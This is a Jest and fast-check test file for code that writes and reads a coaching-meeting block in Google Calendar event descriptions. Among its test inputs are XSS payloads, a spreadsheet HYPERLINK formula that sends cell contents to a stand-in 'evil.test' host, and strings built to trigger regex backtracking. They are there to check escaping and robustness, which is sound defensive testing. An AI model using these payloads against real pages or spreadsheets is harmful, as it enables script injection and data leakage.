import fc from 'fast-check';
import {
  descriptionNotes,
  descriptionSize,
  descriptionTooLongMessage,
  DESCRIPTION_MAX_CHARS,
  BLOCK_END,
  BLOCK_START,
  hasBlock,
  mergeBlock,
  parseBlock,
  removeBlock,
  renderBlock,
  rewriteMilestone,
} from '../../src/core/description';
import { MEETING_DEFINITION, NO_RECORDING } from '../../src/core/toolkit';
import { Meeting, MEETING_LIMITS, parseMeetingForm } from '../../src/core/meeting';
import { codePoint } from './fuzz-arbitraries';

const meeting: Meeting = {
  goal: 'Lead the spring product launch end to end',
  agenda: ['The goal and how it serves the launch', 'Support I need from Mo'],
  actionPlan: [
    { step: 'Draft launch plan and share with Mo', owner: 'coachee', due: '2026-03-17' },
    { step: 'Introduce Ana to the sales leads', owner: 'manager' },
  ],
  coachRole: 'facilitate',
};
const ctx = {
  coachee: 'ana@acme.test',
  manager: 'mo@acme.test',
  coach: 'cora@coaches.test',
  milestoneLabel: 'Initial meeting',
  coachVideoLink: 'https://meet.example.test/cora-room',
  toolkitUrl: 'https://docs.google.com/document/d/acme-ccm-toolkit/edit',
};

describe('renderBlock', () => {
  it('renders the agreed layout, between markers', () => {
    expect(renderBlock(meeting, ctx)).toBe(
      [
        '── CCM alignment meeting ──',
        MEETING_DEFINITION,
        'Milestone: Initial meeting',
        'Coachee: ana@acme.test',
        'Manager: mo@acme.test',
        'Coach: cora@coaches.test',
        'Goal: Lead the spring product launch end to end',
        'Agenda:',
        '1. The goal and how it serves the launch',
        '2. Support I need from Mo',
        'Action plan:',
        '- Draft launch plan and share with Mo (owner: coachee, due 2026-03-17)',
        '- Introduce Ana to the sales leads (owner: manager)',
        'Coach’s role: Facilitate. The coach guides the conversation and keeps it on the agenda and the goal.',
        'Video link (coach’s room): https://meet.example.test/cora-room',
        'Manager toolkit: https://docs.google.com/document/d/acme-ccm-toolkit/edit',
        `Confidentiality: nothing from the coachee’s coaching sessions is discussed, asked for or shared in this meeting, and the coach will not share anything from those sessions before, during or after it. ${NO_RECORDING}`,
        '── end of CCM alignment meeting ──',
      ].join('\n'),
    );
  });

  it('escapes all user text: no markup survives', () => {
    const html = renderBlock({
      ...meeting,
      goal: '<script>alert("x")</script> & <b>bold</b> \'q\'',
      agenda: ['<img src=x onerror=alert(1)>'],
    });
    expect(html).not.toMatch(/<script|<b>|<img/);
    expect(html).toContain(
      'Goal: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt; &#39;q&#39;',
    );
    expect(html).toContain('1. &lt;img src=x onerror=alert(1)&gt;');
  });

  it("says when there is no action plan yet, and shows a chosen link as the coachee's", () => {
    const text = renderBlock({ ...meeting, actionPlan: [], videoLink: 'https://zoom.example.test/j/1?pwd=a&b=c' }, ctx);
    expect(text).toContain('\nAction plan: none yet\n');
    expect(text).toContain('\nVideo link: https://zoom.example.test/j/1?pwd=a&amp;b=c\n');
    expect(text).not.toContain('coach’s room');
  });
});

describe('parseBlock', () => {
  it('reads back what was rendered', () => {
    const p = parseBlock(`My notes\n\n${renderBlock(meeting, ctx)}\n\nmore notes`);
    expect(p.found).toBe(true);
    expect(p.problems).toEqual([]);
    expect(p.meeting).toEqual(meeting);
    expect(p.shownVideoLink).toBe('https://meet.example.test/cora-room');
    expect(p.milestoneLabel).toBe('Initial meeting');
  });

  it('reads a block Calendar turned into HTML (<br>, <p>, &nbsp;, inline tags, typographic apostrophes as &#39;)', () => {
    const html = renderBlock(meeting, ctx)
      .split('\n')
      .map((l) => `<p>${l.replace(/ /g, '&nbsp;').replace(/’/g, '&#39;')}</p>`)
      .join('')
      .replace('<p>Goal:', '<p><b>Goal:</b>');
    expect(parseBlock(html).meeting).toEqual(meeting);
    expect(parseBlock(renderBlock(meeting, ctx, { html: true })).meeting).toEqual(meeting);
    expect(parseBlock(renderBlock(meeting, ctx).replace(/\n/g, '<br />\r\n')).meeting).toEqual(meeting);
  });

  it('is tolerant of hand edits and says what it could not read', () => {
    const edited = renderBlock(meeting, ctx)
      .replace('2. Support I need from Mo', '2. Support I need from Mo\n- A line I added\nsome stray remark')
      .replace('- Introduce Ana to the sales leads (owner: manager)', '- Book a follow-up');
    const p = parseBlock(edited);
    expect(p.meeting?.agenda).toEqual([
      'The goal and how it serves the launch',
      'Support I need from Mo',
      'A line I added',
    ]);
    expect(p.meeting?.actionPlan[1]).toEqual({ step: 'Book a follow-up', owner: 'coachee' });
    expect(p.problems).toEqual([
      'Couldn\'t read the line "some stray remark".',
      'The action "Book a follow-up" has no owner; it was read as the coachee\'s.',
    ]);
  });

  it('returns what it can from a damaged block and never throws', () => {
    const noEnd = renderBlock(meeting, ctx)
      .replace(`\n${BLOCK_END}`, '')
      .replace(/Coach’s role:.*\n/, '');
    const p = parseBlock(`${noEnd}\nOrganizer text after`);
    expect(p.found).toBe(true);
    expect(p.meeting).toBeUndefined();
    expect(p.partial.goal).toBe(meeting.goal);
    expect(p.partial.agenda).toEqual(meeting.agenda);
    expect(p.problems).toEqual(
      expect.arrayContaining([
        'The end line of the CCM block is missing; read up to the last line that looked like part of it.',
        "The coach's role is missing.",
      ]),
    );
    for (const junk of [
      undefined,
      null,
      '',
      'plain text',
      BLOCK_START,
      `${BLOCK_START}\n${BLOCK_END}`,
      '<<<>>>&&&;',
      '\u0000'.repeat(10),
    ]) {
      expect(() => parseBlock(junk as string)).not.toThrow();
    }
    expect(parseBlock('plain text').found).toBe(false);
    expect(parseBlock(`${BLOCK_START}\n${BLOCK_END}`).problems).toContain('The goal is missing.');
  });

  it('does not take user text for a marker', () => {
    const tricky: Meeting = { ...meeting, goal: BLOCK_END, agenda: [BLOCK_START, BLOCK_END] };
    const desc = mergeBlock('before', tricky);
    expect(parseBlock(desc).meeting).toEqual(tricky);
    expect(removeBlock(desc)).toBe('before');
  });
});

describe('mergeBlock and removeBlock', () => {
  const other: Meeting = { ...meeting, goal: 'A different goal', coachRole: 'clarify', actionPlan: [] };

  it("appends after the organizer's text, replaces in place, never duplicates", () => {
    const first = mergeBlock('Dial-in notes from Ana', meeting, ctx);
    expect(first).toBe(`Dial-in notes from Ana\n\n${renderBlock(meeting, ctx)}`);
    const withAfter = `${first}\n\nText Ana added after`;
    const second = mergeBlock(withAfter, other, ctx);
    expect(second).toBe(`Dial-in notes from Ana\n\n${renderBlock(other, ctx)}\n\nText Ana added after`);
    expect(mergeBlock(second, other, ctx)).toBe(second);
    expect(mergeBlock(null, meeting)).toBe(renderBlock(meeting));
  });

  it('collapses duplicate blocks into one', () => {
    const dup = `a\n\n${renderBlock(meeting)}\n\nb\n\n${renderBlock(meeting)}\n\nc`;
    expect(mergeBlock(dup, other)).toBe(`a\n\n${renderBlock(other)}\n\nb\n\nc`);
    expect(removeBlock(dup)).toBe('a\n\nb\n\nc');
  });

  it('uses <br> when the description is already HTML', () => {
    const html = '<b>Agenda doc</b><br>https://docs.example.test/x';
    const merged = mergeBlock(html, meeting);
    expect(merged).toBe(`${html}<br><br>${renderBlock(meeting, {}, { html: true })}`);
    expect(merged.includes('\n')).toBe(false);
    expect(removeBlock(merged)).toBe(html);
  });

  it("keeps Calendar's <html-blob> wrapper and inline tags around the block", () => {
    const blob = `<html-blob>Notes<br><br>${renderBlock(meeting, {}, { html: true })}</html-blob>`;
    const merged = mergeBlock(blob, other);
    expect(merged).toBe(`<html-blob>Notes<br><br>${renderBlock(other, {}, { html: true })}</html-blob>`);
    expect(removeBlock(blob)).toBe('<html-blob>Notes</html-blob>');
    const bold = `<b>${renderBlock(meeting, {}, { html: true })}</b>`;
    expect(mergeBlock(bold, other)).toBe(`<b>${renderBlock(other, {}, { html: true })}</b>`);
  });

  it('never rewrites a block whose end marker is missing: the text stays, a fresh block is added, a note says so', () => {
    const broken = `Intro\n\n${renderBlock(meeting).replace(`\n${BLOCK_END}`, '')}\n1. My own item\n- My own line after`;
    expect(descriptionNotes(broken)).toEqual(['UNTERMINATED_BLOCK']);
    const merged = mergeBlock(broken, other);
    expect(merged).toBe(`${broken}\n\n${renderBlock(other)}`);
    expect(parseBlock(merged).meeting).toEqual(other);
    expect(parseBlock(merged).problems).toEqual([]);
    expect(mergeBlock(merged, meeting)).toBe(`${broken}\n\n${renderBlock(meeting)}`);
    expect(removeBlock(merged)).toBe(broken);
    expect(removeBlock(broken)).toBe(broken);
    expect(descriptionNotes(renderBlock(other))).toEqual([]);
  });

  it('a start marker the organizer typed above their own lines is theirs: nothing under it is taken', () => {
    const typed = `${BLOCK_START}\nGoal: my private goal\n1. my list\n\nAgenda:`;
    const merged = mergeBlock(typed, meeting);
    expect(merged.startsWith(typed)).toBe(true);
    expect(removeBlock(merged)).toBe(typed);
  });
});

describe('description size (Google Calendar keeps about 8,192 characters)', () => {
  const atLimits: Meeting = {
    goal: 'g'.repeat(MEETING_LIMITS.goal),
    agenda: Array.from({ length: MEETING_LIMITS.agendaItems }, () => 'a'.repeat(MEETING_LIMITS.agendaItem)),
    actionPlan: Array.from({ length: MEETING_LIMITS.actionItems }, () => ({
      step: 's'.repeat(MEETING_LIMITS.actionStep),
      owner: 'manager' as const,
      due: '2026-03-17',
    })),
    coachRole: 'clarify',
    videoLink: `https://meet.example.test/${'v'.repeat(200)}`,
  };

  it('the form limits leave room: a block at every limit, with the context reserve, keeps 1,500 characters for the own text', () => {
    const block = descriptionSize('', atLimits);
    expect(block.fits).toBe(true);
    expect(DESCRIPTION_MAX_CHARS - block.total).toBeGreaterThanOrEqual(1500);
    expect(descriptionSize('x'.repeat(1500), atLimits).fits).toBe(true);
  });

  it('counts the text as written (escapes included) and the own text outside the block', () => {
    const own = 'Mine '.repeat(1000); // 5,000 characters
    const small = descriptionSize(own, meeting);
    expect(small).toMatchObject({ own: 5000, fits: true });
    const escaped = { ...meeting, goal: '<'.repeat(300) }; // 1,200 characters once escaped
    expect(descriptionSize(own, escaped).total).toBeGreaterThan(small.total + 900);
    const merged = mergeBlock(own, meeting, ctx);
    expect(descriptionSize(merged, meeting, ctx)).toMatchObject({ own: 5000, total: merged.length, fits: true });
    const full = descriptionSize('x'.repeat(7000), meeting);
    expect(full.fits).toBe(false);
    expect(full.own).toBe(7000);
    expect(descriptionTooLongMessage(full, true)).toMatch(
      /^Google Calendar keeps about 8,192 characters of description\. Your own text in the event is 7,000 characters, and with the meeting notes the description would be about [\d,]+ characters too long\. Shorten your own text or the notes, then try again\. Nothing was booked or written\.$/,
    );
  });
});

describe('hostile descriptions', () => {
  it.each([
    ['stray <', '<'.repeat(50000)],
    ['unclosed tags', 'a <b '.repeat(20000)],
    ['unclosed <br', '<br'.repeat(30000)],
    ['unclosed <p', '<p '.repeat(30000)],
    ['entity starts', '&#'.repeat(30000)],
    ['many start markers', `${BLOCK_START}\n`.repeat(2000)],
  ])('stay fast (%s)', (_name, junk) => {
    const t = Date.now();
    parseBlock(junk);
    const merged = mergeBlock(junk, meeting);
    removeBlock(junk);
    // A guard against catastrophic backtracking (which takes minutes), generous for busy machines.
    expect(Date.now() - t).toBeLessThan(10_000);
    expect(parseBlock(merged).meeting).toEqual(meeting);
  });
});

// ------------------------------------------------------------------------------------------
// Properties

const text = (max: number) =>
  fc.oneof(
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: max }),
    fc.string({ unit: codePoint, minLength: 1, maxLength: max }),
    fc.constantFrom(
      '=HYPERLINK("https://evil.test?"&A1,"click")',
      '+SUM(A1)',
      '@import',
      '<script>alert(1)</script>',
      '&amp; &lt;b&gt;',
      '1. not a number',
      '- dash first',
      'Goal: nested label',
      '(owner: coach)',
      'x (owner: manager, due 2026-01-01)',
      BLOCK_START,
      BLOCK_END,
      'Ω≈ç√ 日本語 مرحبا עברית 🚀👩🏽‍💻',
      '  spaced   out  ',
      'line\nbreak\r\ninside',
      '\u202Eevil\u202C',
    ),
  );

const meetingArb = fc
  .record({
    goal: text(300),
    agenda: fc.array(text(200), { minLength: 1, maxLength: 10 }),
    actionPlan: fc.array(
      fc.record({
        step: text(200),
        owner: fc.constantFrom('coachee', 'manager', 'coach'),
        due: fc.option(fc.constantFrom('2026-03-17', '2028-02-29', '2026-12-31'), { nil: undefined }),
      }),
      { maxLength: 10 },
    ),
    coachRole: fc.constantFrom('observe', 'facilitate', 'clarify'),
    videoLink: fc.option(
      fc.constantFrom('https://meet.google.com/abc-defg-hij', 'https://acme.zoom.us/j/1?pwd=a&b=%20'),
      { nil: undefined },
    ),
  })
  .map((m) => parseMeetingForm(m))
  .filter((r): r is { ok: true; meeting: Meeting } => r.ok)
  .map((r) => r.meeting);

const organizerText = fc.oneof(
  fc.constant(''),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.constantFrom('Notes\n\n', '<b>bold</b><br>line', 'Join: https://x.test\n— Ana', '\n\n', '<p>para</p>'),
);

describe('properties', () => {
  it('parse(render(m)) == m for any valid meeting, in text and HTML forms', () => {
    fc.assert(
      fc.property(meetingArb, fc.boolean(), (m, html) => {
        const rendered = renderBlock(m, ctx, { html });
        expect(rendered).not.toMatch(/<(?!br>)/);
        const parsed = parseBlock(rendered);
        expect(parsed.problems).toEqual([]);
        expect(parsed.meeting).toEqual(m);
      }),
      { numRuns: 300 },
    );
  });

  it('merge keeps the organizer text, is idempotent, and remove restores the original', () => {
    fc.assert(
      fc.property(organizerText, meetingArb, meetingArb, (d, m1, m2) => {
        fc.pre(!hasBlock(d));
        const once = mergeBlock(d, m1, ctx);
        expect(once.startsWith(d)).toBe(true);
        expect(parseBlock(once).meeting).toEqual(m1);
        expect(mergeBlock(once, m1, ctx)).toBe(once);
        const twice = mergeBlock(once, m2, ctx);
        expect(twice).toBe(mergeBlock(d, m2, ctx));
        expect(parseBlock(twice).meeting).toEqual(m2);
        expect(removeBlock(twice)).toBe(d);
        expect(removeBlock(once)).toBe(d);
      }),
      { numRuns: 200 },
    );
  });
});

describe('one definition, older blocks, and a milestone rewritten after a move', () => {
  const OLD_INTRO =
    'This is an alignment meeting between the coachee, their manager and their coach. It is not a coaching session.';

  it('reads a block written with the earlier intro line, without problems', () => {
    const old = renderBlock(meeting, ctx).replace(MEETING_DEFINITION, OLD_INTRO);
    expect(old).toContain(OLD_INTRO);
    const parsed = parseBlock(old);
    expect(parsed.problems).toEqual([]);
    expect(parsed.meeting).toEqual(meeting);
  });

  it('rewrites only the milestone line; own text and the rest of the block stay byte for byte', () => {
    for (const html of [false, true]) {
      const own = html ? 'Mine &amp; <b>yours</b><br>' : 'Mine & yours\n';
      const before = own + renderBlock(meeting, ctx, { html }) + (html ? '<br>After' : '\nAfter');
      const after = rewriteMilestone(before, 'Wrap-up meeting')!;
      expect(parseBlock(after).milestoneLabel).toBe('Wrap-up meeting');
      expect(after.replace('Wrap-up meeting', 'Initial meeting')).toBe(before);
      expect(rewriteMilestone(after, 'Wrap-up meeting')).toBeNull();
    }
    expect(rewriteMilestone('no block here', 'Wrap-up meeting')).toBeNull();
    expect(rewriteMilestone(renderBlock(meeting, { ...ctx, milestoneLabel: undefined }), 'X')).toBeNull();
  });
});
